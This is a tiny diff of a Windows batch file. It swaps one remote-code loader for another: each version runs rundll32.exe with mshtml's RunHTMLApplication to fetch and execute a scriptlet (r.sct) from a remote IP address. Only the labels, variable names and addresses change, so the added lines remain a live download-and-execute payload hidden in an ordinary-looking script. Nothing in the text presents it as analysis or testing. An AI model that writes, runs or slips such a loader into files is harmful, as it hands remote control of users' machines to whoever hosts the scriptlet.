@@ -1,4 +1,4 @@
-REM setup 5243 v0
+REM init 1772 v0
 @echo off
-set geze=rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.9/r.sct")
-call %geze%
+set hnsn=rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.17/r.sct")
+call %hnsn%
